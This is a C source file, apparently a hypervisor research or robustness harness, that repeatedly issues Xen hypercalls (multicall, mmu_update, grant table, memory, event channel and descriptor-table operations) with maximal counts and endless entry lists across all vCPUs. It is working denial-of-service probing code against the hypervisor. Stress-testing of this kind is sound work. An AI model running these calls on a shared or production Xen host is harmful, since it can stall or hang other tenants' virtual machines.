/*
 * Makes one of the calls that take a count again and again, with the largest count and with endless lists of well-formed entries. The option "call"
 * says which one. If the call comes to an end, its result goes to Xen's log, because some of these calls close the port of the console.
 */
#include "attack.h"

enum { FREED = REPEATED, GRANT_FRAMES = 64, EVENT_PAGES = 128 };

static u32 done;

static s64 memory_op(u32 operation, void *argument) { return hypercall(HYPERVISOR_memory_op, operation, (u64)argument, 0, 0); }
static s64 grant_op(u32 operation, void *argument, u64 count) {
    return hypercall(HYPERVISOR_grant_table_op, operation, (u64)argument, count, 0);
}
static s64 event_op(u32 operation, void *argument) { return hypercall(HYPERVISOR_event_channel_op, operation, (u64)argument, 0, 0); }

static s64 multicall_of(u64 lists, struct multicall entry) {
    for (int i = 0; i < REPEATED / 8; i++) ((struct multicall *)repeated)[i] = entry;
    return hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
}
static s64 multicall(u64 lists) { return multicall_of(lists, (struct multicall){HYPERVISOR_xen_version, 0, {0}}); }
/* A multicall of calls that are long themselves. */
static s64 multicall_console(u64 lists) { return multicall_of(lists, (struct multicall){HYPERVISOR_console_io, 0, {0, 0x7fffffff, lists}}); }

/* Updates the M2P entry of one frame. */
static s64 mmu_update(u64 lists) {
    for (int i = 0; i < REPEATED / 2; i++) ((struct update *)repeated)[i] = (struct update){mfn_of(pool[0]) << 12 | 1, 1};
    return hypercall(HYPERVISOR_mmu_update, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
}

static s64 extended(u64 lists, struct mmuext op) {
    for (int i = 0; i < REPEATED / 3; i++) ((struct mmuext *)repeated)[i] = op;
    return hypercall(HYPERVISOR_mmuext_op, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
}
static s64 flush_all(u64 lists) { return extended(lists, (struct mmuext){MMUEXT_TLB_FLUSH_ALL, 0, 0, 0}); }
/* The vCPUs that a mask names: all of them. */
static u64 all_vcpus = ~0ul;
static s64 flush_multi(u64 lists) { return extended(lists, (struct mmuext){8, 0, 0, (u64)&all_vcpus}); }
static s64 invlpg_multi(u64 lists) { return extended(lists, (struct mmuext){9, 0, (u64)pool, (u64)&all_vcpus}); }
static s64 clear_page(u64 lists) { return extended(lists, (struct mmuext){16, 0, mfn_of(pool[0]), 0}); }
static s64 copy_page(u64 lists) { return extended(lists, (struct mmuext){17, 0, mfn_of(pool[0]), mfn_of(pool[1])}); }

static s64 grant_map(u64 lists) { return grant_op(0, (void *)lists, 0x7fffffff); }
static s64 grant_unmap(u64 lists) { return grant_op(1, (void *)lists, 0x7fffffff); }
static s64 grant_transfer(u64 lists) { return grant_op(4, (void *)lists, 0x7fffffff); }
static s64 grant_copy(u64 lists) { return grant_op(5, (void *)lists, 0x7fffffff); }
static s64 grant_replace(u64 lists) { return grant_op(7, (void *)lists, 0x7fffffff); }
static s64 grant_swap(u64 lists) { return grant_op(11, (void *)lists, 0x7fffffff); }

/* Returns the status, which is in the structure, if the call itself succeeded. */
static s64 setup_table(u64 lists, u32 count) {
    struct { u16 domid; u16 pad; u32 count; short status; u64 list; } s = {DOMID_SELF, 0, count, 1, lists};
    s64 error = grant_op(2, &s, 1);
    return error ? error : s.status;
}
static s64 setup_table_too_large(u64 lists) { return setup_table(lists, 0xffffffff); }
static s64 setup_table_all(u64 lists) { return setup_table(lists, GRANT_FRAMES); }
static s64 set_version(u64 lists) {
    static u32 version = 1;
    if (setup_table(lists, GRANT_FRAMES)) return -1000;
    version ^= 3;
    u32 v = version;
    return grant_op(8, &v, 1);
}
static s64 status_frames(u64 lists) {
    u32 two = 2;
    if (setup_table(lists, GRANT_FRAMES) || grant_op(8, &two, 1)) return -1000;
    struct { u32 count; u16 domid; short status; u64 list; } s = {GRANT_FRAMES / 8, DOMID_SELF, 1, lists};
    s64 error = grant_op(9, &s, 1);
    return error ? error : s.status;
}

/* Makes room for FREED frames in the domain, as many as the lists have different entries. */
static void make_room(void) {
    static int made;
    static u64 list[512];
    if (made++) return;
    /* The domain may have a little more memory than it began with. */
    while (reservation(0, list, 512, 0) > 0);
    memory_give(FREED);
}
static s64 reserve(u32 operation, u64 lists) {
    struct memory_reservation r = {(u64 *)lists, 0x3ffffff, 0, 0, DOMID_SELF};
    return memory_op(operation, &r);
}
static s64 give_back(u64 lists, s64 got) {
    s64 given = reserve(XENMEM_decrease_reservation, lists);
    return given == got ? got : -1000000 - given;
}
/* Takes all the frames that the domain has room for and then gives everything back. The lists go on after those frames, but none of the rest is a
 * frame of the domain's any more. */
static s64 increase(u64 lists) {
    make_room();
    return give_back(lists, reserve(0, lists));
}
static s64 populate(u64 lists) {
    make_room();
    for (int i = 0; i < REPEATED; i++) repeated[i] = 0x10000 + i;
    return give_back(lists, reserve(XENMEM_populate_physmap, lists));
}

static s64 add_to_physmap(u64 lists) {
    (void)lists;
    struct { u16 domid, size; u32 space; u64 index, gfn; } a = {DOMID_SELF, 65535, 3, 0, 0};
    return memory_op(7, &a);
}
static s64 add_to_physmap_batch(u64 lists) {
    struct { u16 domid, space, size, extra; u64 indices, gfns, errors; } b = {DOMID_SELF, 2, 65535, 0, lists, lists, lists};
    return memory_op(23, &b);
}
static s64 acquire_resource(u64 lists) {
    struct { u16 domid, type; u32 id, count, pad; u64 frame, list; } a = {option("own", 0), 1, 0, 0xffffff, 0, 0, lists};
    return memory_op(28, &a);
}
static s64 memory_map(u64 lists) {
    struct { u32 entries, pad; u64 buffer; } m = {0xffffffff, 0, lists};
    return memory_op(9, &m);
}
static s64 machphys_mfn_list(u64 lists) {
    struct { u32 most, pad; u64 list; u32 n; } m = {0xffffffff, 0, lists, 0};
    return memory_op(XENMEM_machphys_mfn_list, &m);
}

/* Polls more ports than may be polled. They all are the same port, which has no event. */
static s64 poll_many(u64 lists) {
    struct { u32 vcpu, port; } ipi = {0, 0};
    event_op(EVTCHNOP_bind_ipi, &ipi);
    for (int i = 0; i < REPEATED; i++) repeated[i] = (u64)ipi.port << 32 | ipi.port;
    struct { u64 ports; u32 count; u64 timeout; } p = {lists, 0x7fffffff, 0};
    s64 error = hypercall(HYPERVISOR_sched_op, SCHEDOP_poll, (u64)&p, 0, 0);
    event_op(EVTCHNOP_close, &ipi.port);
    return error;
}

/* Resets as many ports as there can be, with words of the FIFO ABI for all of them but no event on any. Returns their number. */
static s64 reset_fifo(u64 lists) {
    (void)lists;
    u64 frame = start_info->nr_pages - 1, ports = 0;
    struct { u64 frame; u32 offset, vcpu; u8 bits, pad[7]; } control = {p2m[frame--], 0, 0, 0, {0}};
    if (event_op(11, &control)) return -1000;
    for (int i = 0; i < EVENT_PAGES; i++) {
        u64 words = p2m[frame--];
        if (event_op(12, &words)) return -1001;
    }
    struct { u16 domid, remote; u32 port; } unbound = {DOMID_SELF, DOMID_SELF, 0};
    while (!event_op(6, &unbound)) ports++;
    u16 domid = DOMID_SELF;
    s64 error = event_op(10, &domid);
    return error ? error : unbound.port;
}

/* Sets a descriptor table of more pages than may be. They all are the same empty page. */
static s64 set_gdt(u64 lists) {
    set_entry(pool[2], mfn_of(pool[2]) << 12 | PTE_RO, UVMF_INVLPG);
    for (int i = 0; i < REPEATED; i++) repeated[i] = mfn_of(pool[2]);
    return hypercall(HYPERVISOR_set_gdt, lists, 0x7fffffff, 0, 0);
}
static s64 set_trap_table(u64 lists) {
    for (int i = 0; i < REPEATED / 2; i++) ((struct trap_info *)repeated)[i] = (struct trap_info){200, 0, KERNEL_CS, 0, 1};
    return hypercall(HYPERVISOR_set_trap_table, lists, 0, 0, 0);
}

static const struct { const char *name; s64 (*make)(u64 lists); } calls[] = {
    {"multicall", multicall}, {"multicall_console", multicall_console}, {"mmu_update", mmu_update},
    {"flush_all", flush_all}, {"flush_multi", flush_multi}, {"invlpg_multi", invlpg_multi}, {"clear_page", clear_page}, {"copy_page", copy_page},
    {"grant_map", grant_map}, {"grant_unmap", grant_unmap}, {"grant_transfer", grant_transfer}, {"grant_copy", grant_copy},
    {"grant_replace", grant_replace}, {"grant_swap", grant_swap}, {"setup_table_too_large", setup_table_too_large},
    {"setup_table", setup_table_all}, {"set_version", set_version}, {"status_frames", status_frames}, {"increase", increase},
    {"populate", populate}, {"add_to_physmap", add_to_physmap}, {"add_to_physmap_batch", add_to_physmap_batch},
    {"acquire_resource", acquire_resource}, {"memory_map", memory_map}, {"machphys_mfn_list", machphys_mfn_list}, {"poll", poll_many},
    {"reset_fifo", reset_fifo}, {"set_gdt", set_gdt}, {"set_trap_table", set_trap_table},
};

/* The other vCPUs begin the same call later, one after the other. So a call that is long only at its beginning is long again and again. */
enum { APART_MS = 50 };
static u64 same_lists;
static s64 (*same_call)(u64 lists);
static void begin_later(u32 me) {
    wait_ms(me * APART_MS);
    for (;;) same_call(same_lists);
}

/* Logs the result of the call whenever it changes. */
void attack_calls(void) {
    u64 lists = endless();
    const char *name = option_text("call");
    for (u32 i = 0; i < sizeof calls / sizeof *calls; i++) {
        u64 n = length(calls[i].name);
        if (!name || !starts(name, calls[i].name) || (u8)name[n] > ' ') continue;
        clear_bytes(repeated, sizeof repeated);
        print("BEGIN\n");
        same_lists = lists, same_call = calls[i].make;
        for (u32 n = 1; n < vcpus_online; n++) give_job(n, begin_later);
        s64 before = 0;
        for (u64 round = 0;; round++) {
            s64 result = calls[i].make(lists);
            if (!round || result != before) log_line("ENDED", 1, &result);
            before = result;
        }
    }
    print("END no such call\n");
}
